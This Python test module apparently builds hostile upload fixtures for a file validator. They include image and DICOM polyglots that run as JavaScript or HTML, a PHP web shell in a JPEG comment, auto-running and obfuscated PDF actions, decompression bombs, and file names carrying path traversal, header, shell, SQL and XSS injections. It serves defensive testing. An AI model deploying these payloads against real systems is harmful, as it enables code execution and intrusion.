"""A hostile corpus: files that are two things at once, lie, burst or act by themselves, and names of files, each with its verdict.

Whatever can carry a script carries `Canary.script`, which makes itself heard in every way there is. `live`: how that script runs when
nothing stands in its way; a file served so, bare, shows that it is alive (tests/campaigns/test_documents_hostile.py).
"""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.documents import seeds
from tests.documents.seeds import EICAR, box, chunk, dicom, heic, jpeg, pdf, png, riff, segment, tiff, vp8, vp8x, zipped

CAP = 2**20  # bytes of the largest file, as the campaign sets it
WORD = "CANARY"
KEPT, REFUSED, TOO_LARGE = "kept", "refused", "too large"
BLANK = b" " * 1100  # what stands behind this is not looked at as the beginning of a web page
END = "has bytes after its end"


@dataclass(frozen=True)
class Canary:
    """`host`: where it is listened, as host:port."""

    host: str

    @property
    def script(self) -> bytes:
        """Makes itself heard at the listener, at the server, in the console, by a dialog, in the window's name and title."""
        acts = (
            f"navigator.sendBeacon('http://{self.host}/hit/beacon')",
            f"fetch('http://{self.host}/hit/fetch',{{mode:'no-cors'}})",
            f"new Image().src='http://{self.host}/hit/image'",
            f"fetch('/hit/{WORD}')",
            f"console.log('{WORD}')",
            f"self.name='{WORD}'",
            f"document.title='{WORD}'",
            f"alert('{WORD}')",
        )
        return b";".join(b"try{%s}catch(e){}" % act.encode() for act in acts) + b";"

    @property
    def html(self) -> bytes:
        return (
            b"<!DOCTYPE html><html><head><meta charset=utf-8></head><body><script>%s</script><img src=x onerror=\"console.log('%s')\">"
            b"<iframe srcdoc=\"<script>parent.console.log('%s')</script>\"></iframe></body></html>"
        ) % (self.script, WORD.encode(), WORD.encode())  # fmt: skip

    @property
    def svg(self) -> bytes:
        return b'<svg xmlns="http://www.w3.org/2000/svg"><script>%s</script></svg>' % self.script.replace(
            b"&", b"&amp;"
        )

    @property
    def acrobat(self) -> bytes:
        """What a PDF's script does, as the inside of a PDF string."""
        script = f"app.alert('{WORD}');app.launchURL('http://{self.host}/hit/pdf',true);this.submitForm('http://{self.host}/hit/form');"
        return script.replace("(", "\\(").replace(")", "\\)").encode()


@dataclass(frozen=True)
class Item:
    """A file. `words`: of the sentence that refuses it, or what is said to have been seen in it, all of it."""

    name: str
    body: Callable[[Canary], bytes]
    verdict: str
    words: str = ""
    kind: str = ""
    live: str = ""  # "html", "javascript", "css", "pdf": as what its canary runs


def _of(data: bytes) -> Callable[[Canary], bytes]:
    return lambda canary: data


# --- builders ---------------------------------------------------------------------------------------------------------


def jpeg_script(canary: Canary) -> bytes:
    """A JPEG that is a script in ISO 8859-1: its first marker begins a name, the length of its first segment a comment."""
    size = 0x2F2A - 2
    live = b"*/=1;%s/*" % canary.script
    start = b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    first = start + b" " * (size - len(start) - len(live)) + live
    return b"\xff\xd8\xff\xe0\x2f\x2a" + first + jpeg()[20:] + b"*/"


def dicom_script(canary: Canary) -> bytes:
    return dicom(preamble=b"/*", body=b"\x08\0\x60\0CS\x02\0IO*/%s/*" % canary.script.ljust(600) + b"*/")


def dicom_style(canary: Canary) -> bytes:
    return dicom(preamble=b"{}*{background:url(http://%s/hit/css)}/*" % canary.host.encode())


def jpeg_page(canary: Canary) -> bytes:
    return jpeg(before=segment(0xFE, BLANK) + segment(0xFE, canary.html))


def png_page(canary: Canary) -> bytes:
    return png(between=chunk(b"tEXt", b"Comment\0" + BLANK) + chunk(b"tEXt", b"Comment\0" + canary.html))


def webp_page(canary: Canary) -> bytes:
    return riff(vp8x(20, 10), (b"EXIF", BLANK + canary.html), vp8())


def tiff_page(canary: Canary) -> bytes:
    return tiff() + BLANK + canary.html


def heic_page(canary: Canary) -> bytes:
    return heic() + box(b"free", BLANK + canary.html)


def dicom_page(canary: Canary) -> bytes:
    return dicom(body=b"\x08\0\x60\0CS\x02\0IO" + BLANK + canary.html)


def pdf_page(canary: Canary) -> bytes:
    return pdf(filling=BLANK + canary.html)


def pdf_acting(extra: bytes) -> Callable[[Canary], bytes]:
    """A PDF with more in its catalogue; {script} and {host} stand for the canary's."""
    return lambda canary: pdf(extra=_filled(extra, canary))


def pdf_packed(
    extra: bytes,
    *,
    about: bytes = b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d",
    pack: Callable[[bytes], bytes] = zlib.compress,
) -> Callable[[Canary], bytes]:
    """The same with all objects in a packed one. `about`: what is said of that; `pack`: how it is packed."""

    def made(canary: Canary) -> bytes:
        objects = [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % _filled(extra, canary),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        ]
        places, inside = [], b""
        for number, each in enumerate(objects, 1):
            places.append(b"%d %d" % (number, len(inside)))
            inside += each + b"\n"
        first = b" ".join(places) + b"\n"
        packed = pack(first + inside)
        at = len(b"%PDF-1.5\n")
        out = b"%%PDF-1.5\n4 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\n" % (
            about % (len(first), len(packed)),
            packed,
        )
        start = len(out)
        rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, at, 0), (1, start, 0)]
        table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
        return out + (
            b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
            b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, start)
        )

    return made


def _twice(plain: bytes) -> bytes:
    return zlib.compress(zlib.compress(plain))


def _as_hex(plain: bytes) -> bytes:
    return zlib.compress(plain.hex().encode() + b">")


def _unended(plain: bytes) -> bytes:
    """Packed without an end, which readers forgive."""
    packer = zlib.compressobj()
    return packer.compress(plain) + packer.flush(zlib.Z_SYNC_FLUSH)


def _foretold(plain: bytes) -> bytes:
    """With a predictor of PNG: each byte as the difference from the one before, rows of eight behind a sign each."""
    plain += b" " * (-len(plain) % 8)
    rows = [plain[at : at + 8] for at in range(0, len(plain), 8)]
    return zlib.compress(
        b"".join(b"\1" + bytes((now - then) % 256 for then, now in zip(b"\0" + row, row, strict=False)) for row in rows)
    )


def _filled(extra: bytes, canary: Canary) -> bytes:
    return extra.replace(b"{script}", canary.acrobat).replace(b"{host}", canary.host.encode())


def pdf_bomb(_canary: Canary) -> bytes:
    """A page whose drawing is 64 MiB of nothing, packed twice."""
    packed = zlib.compress(zlib.compress(b" " * 2**26, 9), 9)
    body = pdf(extra=b"", filling=packed)
    return body.replace(b"<< /Length", b"<< /Filter [/FlateDecode /FlateDecode] /Length", 1)


def zip_bomb(_canary: Canary) -> bytes:
    return zipped(b"bomb") + zlib.compress(bytes(2**24), 9)


def png_bomb(_canary: Canary) -> bytes:
    """A header of 3 x 2 pixels, and 64 MiB of them."""
    return png(rows=bytes(2**26))


def png_text_bomb(_canary: Canary) -> bytes:
    return png(between=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(2**26), 9)))


def png_vast(_canary: Canary) -> bytes:
    """As large as is allowed, and really there: 100 million pixels in 100 kB."""
    return png(20_000, 5_000, rows=bytes(20_001 * 5_000))


def png_of(size: int) -> Callable[[Canary], bytes]:
    """A PNG of exactly so many bytes."""
    return lambda canary: png(between=chunk(b"iTXt", bytes(size - len(png()) - 12)))


# --- files ------------------------------------------------------------------------------------------------------------

JS, ACTS, STARTS = "has JavaScript", "opens something by itself", "starts a program"
HIDDEN = "is packed in a way that hides what it does"
PACKED_SCRIPT = b"/OpenAction << /S /JavaScript /JS ({script}) >>"
PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"
PHP = b"<?php system($_GET['c']); __halt_compiler();"

FILES: tuple[Item, ...] = (
    # Two things at once.
    Item("gif.js", lambda c: b"GIF89a=1;/*" + bytes(20) + b"*/" + c.script, REFUSED, "GIF picture"),
    Item("script.jpg", jpeg_script, KEPT, "", JPEG, live="javascript"),
    Item("page.jpg", jpeg_page, KEPT, "", JPEG, live="html"),
    Item("near-page.jpg", lambda c: jpeg(before=segment(0xFE, c.html)), REFUSED, "piece of a web page"),
    Item("page-behind.jpg", lambda c: jpeg() + BLANK + c.html, KEPT, END, JPEG, live="html"),
    Item("shell.jpg", _of(jpeg(before=segment(0xFE, PHP))), KEPT, "", JPEG),
    Item("shell.php", _of(jpeg(before=segment(0xFE, PHP))), KEPT, "file name says .php", JPEG),
    Item("page.png", png_page, KEPT, "", PNG, live="html"),
    Item("page-behind.png", lambda c: png() + BLANK + c.html, KEPT, END, PNG, live="html"),
    Item("archive.png", _of(png() + zipped()), KEPT, END, PNG),
    Item("archive.zip", _of(png() + zipped()), KEPT, f"{END}; file name says .zip", PNG),
    Item("page.webp", webp_page, KEPT, "", "image/webp", live="html"),
    Item("page.tif", tiff_page, KEPT, "", "image/tiff", live="html"),
    Item("page.heic", heic_page, KEPT, "", "image/heic", live="html"),
    Item("archive.pdf", _of(pdf() + zipped()), KEPT, "", PDF),
    Item("archive-first.pdf", _of(zipped() + pdf()), REFUSED, "archive"),
    Item("page.pdf", pdf_page, KEPT, "", PDF, live="html"),
    Item("near-page.pdf", lambda c: b"%PDF-1.4\n" + c.html + pdf(), REFUSED, "piece of a web page"),
    Item("picture.pdf", _of(b"\xff\xd8\xff" + pdf()), REFUSED, "two things"),
    Item("tiff.dcm", _of(dicom(preamble=tiff()[:8])), KEPT, "", "application/dicom"),
    Item("program.dcm", _of(dicom(preamble=b"MZ\x90\0")), REFUSED, "two things"),
    Item("elf.dcm", _of(dicom(preamble=b"\x7fELF\x02\x01\x01")), REFUSED, "two things"),
    Item("archive.dcm", _of(dicom(preamble=zipped()[:100])), REFUSED, "two things"),
    Item("pdf.dcm", _of(dicom(preamble=b"%PDF-1.4")), REFUSED, "two things"),
    Item("near-page.dcm", lambda c: dicom(preamble=b"<script>alert(1)</script>"), REFUSED, "piece of a web page"),
    Item("page.dcm", dicom_page, KEPT, "", "application/dicom", live="html"),
    Item("script.dcm", dicom_script, KEPT, "", "application/dicom", live="javascript"),
    Item("script.js", dicom_script, KEPT, "file name says .js", "application/dicom", live="javascript"),
    Item("style.dcm", dicom_style, KEPT, "", "application/dicom", live="css"),
    # Not what they are called.
    Item("drawing.svg", lambda c: c.svg, REFUSED, "SVG drawing"),
    Item("drawing.png", lambda c: b'<?xml version="1.0"?>' + c.svg, REFUSED, "SVG drawing"),
    Item("drawing-late.png", lambda c: b"<!--" + b"x" * 2000 + b"-->" + c.svg, REFUSED, "."),
    Item("letter.pdf", lambda c: c.html, REFUSED, "web page"),
    Item("photo.png", lambda c: c.html, REFUSED, "web page"),
    Item("utf16.png", lambda c: c.html.decode().encode("utf-16"), REFUSED, "Nobody can tell"),
    Item("page.html", _of(png()), KEPT, "file name says .html", PNG),
    Item("page.svg", _of(pdf()), KEPT, "file name says .svg", PDF),
    Item("letter.docx", _of(zipped(b"word/document.xml")), REFUSED, "Office"),
    Item("letter-zip.docx", _of(zipped(b"letter.txt")), REFUSED, "archive"),
    Item("bomb.zip", zip_bomb, REFUSED, "archive"),
    Item("eicar.com", _of(EICAR), REFUSED, "plain text"),
    Item("eicar.pdf", _of(pdf(filling=EICAR)), KEPT, "", PDF),
    Item("eicar.png", _of(png() + bytes(20) + EICAR), KEPT, END, PNG),
    # Bombs and lies.
    Item("bomb.pdf", pdf_bomb, KEPT, "", PDF),
    Item("pages.pdf", _of(pdf(2001)), REFUSED, "more than 2,000 pages"),
    Item("lies.pdf", _of(pdf().replace(b"/Count 1", b"/Count 2000000000")), KEPT, "", PDF),
    Item("loop.pdf", _of(pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")), KEPT, "", PDF),
    Item("huge.png", _of(png(30_000, 30_000, rows=b"\0")), REFUSED, "30,000 x 30,000 pixels"),
    Item("bomb.png", png_bomb, KEPT, "", PNG),
    Item("text-bomb.png", png_text_bomb, KEPT, "", PNG),
    Item("vast.png", png_vast, KEPT, "", PNG),
    Item("lies.jpg", _of(jpeg(20_000, 5_000, scan=b"\x12\x34")), KEPT, "", JPEG),
    Item("two-sizes.jpg", _of(seeds.hostile()["two-sizes.jpg"][0]), REFUSED, "damaged"),
    Item("huge.jpg", _of(jpeg(65_535, 65_535)), REFUSED, "65,535 x 65,535 pixels"),
    Item("canvas.webp", _of(riff(vp8x(16_777_216, 16_777_216), vp8())), REFUSED, "16,777,216 x 16,777,216 pixels"),
    Item("lies.webp", _of(riff(vp8x(16_000, 6_000), vp8())), REFUSED, "damaged"),
    Item("frames.webp", _of(riff(vp8x(16_000, 6_000), (b"ANIM", bytes(6)), (b"ANMF", bytes(40)))), KEPT, "", "image/webp"),
    Item("huge.tif", _of(tiff(4_000_000_000, 2)), REFUSED, "4,000,000,000 x 2 pixels"),
    Item("loop.tif", _of(tiff(further=8)), KEPT, "holds more pictures", "image/tiff"),
    Item("lies.dcm", _of(dicom(body=b"\x28\0\x10\0US\x02\0\xff\xff\x28\0\x11\0US\x02\0\xff\xff\xe0\x7f\x10\0OW\0\0\xff\xff\xff\xff")),
         KEPT, "", "application/dicom"),  # fmt: skip
    # Of every size.
    Item("empty.png", _of(b""), REFUSED, "is empty"),
    Item("below.png", png_of(CAP - 1), KEPT, "", PNG),
    Item("cap.png", png_of(CAP), KEPT, "", PNG),
    Item("above.png", png_of(CAP + 1), TOO_LARGE, "1.0 MB at most"),
    Item("far-above.png", png_of(3 * CAP), TOO_LARGE, "1.0 MB at most"),
    Item("short.pdf", _of(pdf()[:-8]), REFUSED, "cut short"),
    Item("short.jpg", _of(jpeg()[:-2]), REFUSED, "cut short"),
    Item("short.png", _of(png()[:-1]), REFUSED, "cut short"),
    Item("short.webp", _of(riff(vp8())[:-5]), REFUSED, "cut short"),
    Item("short.tif", _of(tiff()[:-1]), REFUSED, "cut short"),
    Item("short.heic", _of(heic()[:-1]), REFUSED, "cut short"),
    Item("short.heif", _of(heic(b"mif1")[:-1]), REFUSED, "cut short"),
    Item("short.dcm", _of(dicom()[:135]), REFUSED, "cut short"),
    # What a PDF may do.
    Item("script.pdf", pdf_acting(b"/OpenAction << /S /JavaScript /JS ({script}) >>"), KEPT, f"{JS}; {ACTS}", PDF, live="pdf"),
    Item("closing.pdf", pdf_acting(b"/AA << /WC << /S /JavaScript /JS ({script}) >> >>"), KEPT, f"{JS}; {ACTS}", PDF),
    Item("names.pdf", pdf_acting(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ({script}) >>] >> >>"), KEPT, JS, PDF),
    Item("opens.pdf", pdf_acting(b"/OpenAction << /S /URI /URI (http://{host}/hit/uri) >>"), KEPT, ACTS, PDF),
    Item("sends.pdf", pdf_acting(b"/OpenAction << /S /SubmitForm /F (http://{host}/hit/submit) >>"), KEPT, ACTS, PDF),
    Item("goes.pdf", pdf_acting(b"/OpenAction << /S /GoToR /F (\\\\\\\\{host}\\\\hit) /D [0 /Fit] >>"), KEPT, ACTS, PDF),
    Item("launch.pdf", pdf_acting(b"/OpenAction << /S /Launch /F (calc.exe) >>"), KEPT, f"{ACTS}; {STARTS}", PDF),
    Item("files.pdf", pdf_acting(b"/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>"), KEPT, "holds files", PDF),
    Item("form.pdf", pdf_acting(b"/AcroForm << /XFA 9 0 R /Fields [] >>"), KEPT, "has a form of its own (XFA)", PDF),
    Item("link.pdf", pdf_acting(b"/Annots [<< /S /URI /URI (http://{host}/hit/link) >>]"), KEPT, "", PDF),
    Item("codes.pdf", pdf_acting(b"/Open#41ction << /S /J#61vaScript /#4aS ({script}) >>"), KEPT, f"{JS}; {ACTS}", PDF, live="pdf"),
    # Nobody who does not unpack it sees what these do.
    Item("packed.pdf", pdf_packed(b""), KEPT, "", PDF),
    Item("packed-script.pdf", pdf_packed(PACKED_SCRIPT), KEPT, f"{JS}; {ACTS}", PDF, live="pdf"),
    Item("packed-opens.pdf", pdf_packed(b"/OpenAction << /S /URI /URI (http://{host}/hit/packed) >>"), KEPT, ACTS, PDF),
    Item("packed-names.pdf", pdf_packed(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ({script}) >>] >> >>"), KEPT, JS, PDF),
    Item("packed-twice.pdf", pdf_packed(PACKED_SCRIPT, pack=_twice,
         about=b"/Type /ObjStm /N 3 /First %d /Filter [/FlateDecode /FlateDecode] /Length %d"), KEPT, HIDDEN, PDF, live="pdf"),
    Item("packed-hex.pdf", pdf_packed(PACKED_SCRIPT, pack=_as_hex,
         about=b"/Type /ObjStm /N 3 /First %d /Filter [/FlateDecode /ASCIIHexDecode] /Length %d"), KEPT, HIDDEN, PDF, live="pdf"),
    Item("packed-codes.pdf", pdf_packed(PACKED_SCRIPT, pack=_twice,
         about=b"/N 3 /First %d /F#69lter [/FlateDecode /FlateDecode] /Length %d /Type /Obj#53tm"), KEPT, HIDDEN, PDF, live="pdf"),
    Item("packed-far.pdf", pdf_packed(PACKED_SCRIPT, pack=_twice,
         about=b"/Filter [/FlateDecode /FlateDecode]" + b" " * 400 + b"/Type /ObjStm /N 3 /First %d /Length %d"),
         KEPT, HIDDEN, PDF, live="pdf"),
    Item("packed-unended.pdf", pdf_packed(PACKED_SCRIPT, pack=_unended), KEPT, HIDDEN, PDF, live="pdf"),
    Item("packed-foretold.pdf", pdf_packed(PACKED_SCRIPT, pack=_foretold,
         about=b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d /DecodeParms << /Predictor 11 /Columns 8 >>"),
         KEPT, HIDDEN, PDF, live="pdf"),
    Item("packed-plain.pdf", pdf_packed(PACKED_SCRIPT, pack=bytes, about=b"/Type /ObjStm /N 3 /First %d /Length %d"),
         KEPT, f"{JS}; {ACTS}", PDF, live="pdf"),
    Item("packed-bomb.pdf", pdf_packed(PACKED_SCRIPT, pack=lambda plain: zlib.compress(plain + b" " * 2**25, 9)),
         KEPT, HIDDEN, PDF, live="pdf"),
)  # fmt: skip


# --- names ------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Name:
    """`sent`: what stands between the quotes of the header, in UTF-8; `shown`: what a PNG of that name is called here.

    `shown` is empty where no file arrives. `is_extended`: sent as `filename*=UTF-8''…` instead.
    """

    sent: bytes
    shown: str
    is_extended: bool = False


def _same(name: str) -> Name:
    """What is left as it is; quotes are sent as browsers send them."""
    return Name(name.replace('"', "%22").encode(), name)


_SINHALA = "ක"
NAMES: tuple[Name, ...] = (
    # What could end a text, a header or a path.
    Name(b"tooth.png\0.exe", "tooth.png.exe.png"),
    Name(b"a\0b.png", "ab.png"),
    Name("tooth\u202egnp.exe".encode(), "toothgnp.exe.png"),
    Name("\u202dtooth\u202c.png".encode(), "tooth.png"),
    Name("\u2066tooth\u2069\u200b.png".encode(), "tooth.png"),
    Name(b"../../etc/passwd", "passwd"),
    Name(b"..\\..\\boot.ini", "boot.ini.png"),
    Name(b"/etc/shadow", "shadow"),
    # In a header a backslash says that the next letter is to be taken as it is (RFC 9110, 5.6.4).
    Name(b"C:\\Users\\Kamal\\tooth.png", "UsersKamaltooth.png"),
    Name(b"C:\\\\Users\\\\Kamal\\\\tooth.png", "tooth.png"),
    Name(b"C:tooth.png", "tooth.png"),
    Name(b"file:///etc/passwd", "passwd"),
    Name(b"\\\\host\\\\share\\\\tooth.png", "tooth.png"),
    Name(b"tooth.png\\", ""),  # so its last quote ends nothing, and no file comes
    Name(b"..", "document"),
    Name(b".", "document"),
    Name(b"/", "document"),
    Name(b".htaccess", "htaccess"),
    Name(b".png", "png"),
    Name(b"tooth.png.", "tooth.png"),
    Name(b"tooth.png. . .", "tooth.png"),
    Name(b"  tooth.png  ", "tooth.png"),
    Name(b"two\ttabs.png", "two tabs.png"),
    Name("two\u2028lines.png".encode(), "two lines.png"),
    Name("\ufefftooth.png".encode(), "tooth.png"),
    Name(b"a" * 300 + b".png", "a" * 146 + ".png"),
    Name(b"a" * 300, "a" * 150),
    Name(b"a" * 60_000 + b".png", "a" * 146 + ".png"),
    Name((_SINHALA * 300 + ".png").encode(), _SINHALA * 65 + ".png"),
    Name((_SINHALA * 300).encode(), _SINHALA * 66),
    Name(b"a.png\r\nSet-Cookie: x=1", ""),
    Name(b"a.png\nX-Injected: 1", ""),
    Name(b"a%0D%0ASet-Cookie%3A%20x%3D1.png", "a Set-Cookie: x=1.png", is_extended=True),
    Name(b"a%0D%0A%0D%0A%3Cscript%3E.png", "a <script>.png", is_extended=True),
    Name(b"a%00b.png", "ab.png", is_extended=True),
    Name(b"%FF%FEa.png", "\ufffd\ufffda.png", is_extended=True),
    Name(b"\xff\xfea.png", ""),
    Name(b"", ""),
    _same("a%0D%0ASet-Cookie: x=1.png"),
    _same("a%00.png"),
    _same("a%2F..%2Fb.png"),
    _same('a"b.png'),
    _same('a"; filename="b.html.png'),
    _same("a; filename=b.html; c.png"),
    _same("a'b.png"),
    _same("UTF-8''a.png"),
    _same("a;b=c,d.png"),
    # What other programs take for something else.
    _same("CON"),
    _same("CON.png"),
    _same("NUL.png"),
    _same("LPT1.png"),
    _same("-rf.png"),
    _same("~root.png"),
    _same("$HOME.png"),
    _same("$(reboot).png"),
    _same("`reboot`.png"),
    _same("a|b>c.png"),
    _same("*?.png"),
    _same("=1+1.png"),
    _same("@SUM(1).png"),
    _same("%s%n%p%x.png"),
    _same("{{7*7}}.png"),
    _same("${7*7}.png"),
    _same("#{7*7}.png"),
    _same("{% include 'base.html' %}.png"),
    Name(b"' OR 1=1 -- .png", "' OR 1=1 --.png"),
    _same("1;DROP TABLE document--.png"),
    _same("undefined"),
    _same("null"),
    _same("None"),
    _same("NaN"),
    _same("1e1000"),
    _same("0x7fffffff"),
    _same("-1"),
    _same("true.png"),
    # Tags.
    _same(f"<img src=x onerror=console.log('{WORD}')>.png"),
    _same(f'"><svg onload=console.log("{WORD}")>.png'),
    _same(f"' autofocus onfocus=console.log('{WORD}') x='.png"),
    Name(f"<script>console.log('{WORD}')</script>.png".encode(), "script>.png"),
    _same(f"javascript:console.log('{WORD}').png"),
    _same("&lt;b&gt;&quot;&#39;&amp;.png"),
    _same("]]>.png"),
    _same("<!--.png"),
    # Scripts and signs.
    _same("එක්ස්-කිරණ 36.png"),
    _same("ශ්\u200dරී.png"),
    _same("பல்.png"),
    _same("سن \u0640 36.png"),
    _same("שן־36.png"),
    _same("歯科レントゲン.png"),
    _same("\U0001f9b7\U0001f469\u200d\u2695.png"),
    _same("\u0301\u0301.png"),
    _same("Z\u0322\u0333\u0318\u0320algo.png"),
    Name("Ro\u0308ntgen.png".encode(), "Röntgen.png"),
    Name("\ufb01le.png".encode(), "\ufb01le.png"),
    _same("\ufdfd.png"),
    _same("\U00020000\U0001d4d0.png"),
    Name("a\U000e0041b.png".encode(), "ab.png"),
    Name("\ue000a.png".encode(), "a.png"),
    Name(b"\x07\x1b[31mred.png", "[31mred.png"),
)
